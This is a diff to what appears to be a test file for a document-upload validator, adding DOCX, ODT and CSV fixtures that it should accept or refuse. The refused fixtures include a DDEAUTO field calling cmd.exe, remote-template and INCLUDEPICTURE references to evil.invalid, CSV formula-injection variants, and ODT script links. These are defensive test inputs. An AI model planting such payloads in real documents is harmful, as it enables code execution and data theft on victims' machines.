@@ -37,6 +37,40 @@ def encrypted(content):
     return bytes(own)
 
 
+def related(kind, mode="External", encoding="utf-8", target="https://evil.invalid/x"):
+    """Return a DOCX with a relationship, and how it may be written."""
+    xml = (
+        f'<?xml version="1.0" encoding="{encoding}"?><Relationships xmlns="r"><Relationship '
+        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
+        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
+    )
+    return docx(**{"word/_rels/document.xml.rels": xml.encode(encoding)})
+
+
+def damaged(content):
+    """Return an archive of which one compressed part cannot be unpacked."""
+    place = content.find(TYPES_NAME) + len(TYPES_NAME) + 8
+    return (
+        content[:place]
+        + bytes(byte ^ 255 for byte in content[place : place + 8])
+        + content[place + 8 :]
+    )
+
+
+def field(instruction):
+    """Return a DOCX whose text has a field."""
+    xml = f'<w:d xmlns:w="w"><w:instrText>{instruction}</w:instrText></w:d>'
+    return docx(**{"word/document.xml": xml})
+
+
+def linked(element, href):
+    """Return an ODT with an element that has an address."""
+    names = 'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:t="t"'
+    return odt(**{"content.xml": f'<o {names}><t:{element} xlink:href="{href}"/></o>'})
+
+
+MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
+TYPES_NAME = b"[Content_Types].xml"
 SCRIPT = "<script>window.pwned=1</script>"
 PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
 
@@ -45,6 +79,11 @@ SOUND = {
     "VERDICT.PDF": PDF,
     "letter.docx": docx(),
     "letter.odt": odt(),
+    "link.docx": related("hyperlink"),
+    "picture.docx": related("image", mode="Internal", target="media/image1.png"),
+    "page-number.docx": field("PAGE \\* MERGEFORMAT"),
+    "link.odt": linked("a", "https://example.org/"),
+    "picture.odt": linked("image", "Pictures/1.png"),
     "notes.txt": "Вельмішаноўны спадар, 1 < 2 & 3 > 2".encode(),
     "notes-with-mark.txt": "\ufeffЗаметки".encode(),
     "prisoners.csv": "name,day,sum\nБяляцкі,2021-07-14,-5\nX,,+375 17 222\n".encode(),
@@ -84,12 +123,15 @@ REFUSED = {
     "blank-before.csv": b'name\n" =1+1"\n',
     "tab-before.csv": b'name\n"\t=1+1"\n',
     "semicolon.csv": b"name;sum\nX;=1+1\n",
+    "bar.csv": b"name|sum\nX|=1+1\n",
+    "sep.csv": b"sep=!\nname!=1+1\n",
+    "wide.csv": "name\n＝1+1\n".encode(),
     "page.csv": SCRIPT.encode(),
     "macros.docm": docx(**{"word/vbaProject.bin": b"x"}),
     "macros.docx": docx(**{"word/vbaProject.bin": b"x"}),
     "macros-elsewhere.docx": docx(**{"customXml/VBAPROJECT.BIN": b"x"}),
     "macro-named.docx": docx(
-        **{"[Content_Types].xml": TYPES + "application/vnd.ms-word.document.macroEnabled.main+xml"}
+        **{"[Content_Types].xml": TYPES.replace("application/xml", MACRO_TYPE)}
     ),
     "template.docx": docx(
         **{
@@ -97,6 +139,19 @@ REFUSED = {
             'Target="https://evil.invalid/x.dotm" TargetMode="External"/>'
         }
     ),
+    "template-utf-16.docx": related("attachedTemplate", encoding="utf-16"),
+    "template-spelt.docx": related("attached&#84;emplate"),
+    "picture-elsewhere.docx": related("image"),
+    "frame-elsewhere.docx": related("frame"),
+    "page-inside.docx": related("aFChunk", mode="Internal", target="x.htm"),
+    "field-fetches.docx": field("INCLUDEPICTURE https://evil.invalid/x.png"),
+    "field-runs.docx": field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
+    "entities.docx": docx(**{"word/document.xml": "<!DOCTYPE d [<!ENTITY a 'x'>]><w>&a;</w>"}),
+    "broken.docx": docx(**{"word/document.xml": "<w>"}),
+    "damaged.docx": damaged(docx()),
+    "picture-elsewhere.odt": linked("image", "https://evil.invalid/x.png"),
+    "script-link.odt": linked("a", "vnd.sun.star.script:x"),
+    "listener.odt": odt(**{"content.xml": '<o xmlns:s="s"><s:event-listener/></o>'}),
     "object.docx": docx(**{"word/embeddings/oleObject1.bin": b"x"}),
     "control.docx": docx(**{"word/activeX/activeX1.xml": b"x"}),
     "program.docx": docx(**{"word/media/x.exe": b"MZ"}),
